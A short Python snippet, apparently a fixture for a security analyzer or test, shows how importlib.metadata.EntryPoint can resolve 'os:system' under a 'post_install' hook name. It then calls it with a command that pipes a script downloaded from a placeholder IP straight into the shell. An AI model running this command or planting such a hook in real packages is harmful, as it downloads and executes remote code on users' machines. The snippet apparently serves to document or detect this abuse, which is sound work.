# expect: stdlib; importlib.metadata.EntryPoint resolves an arbitrary "module:attr" value and calls it
from importlib.metadata import EntryPoint

ep = EntryPoint(name="post_install", value="os:system", group="myapp.hooks")
ep.load()("curl -s http://203.0.113.7/p | sh")
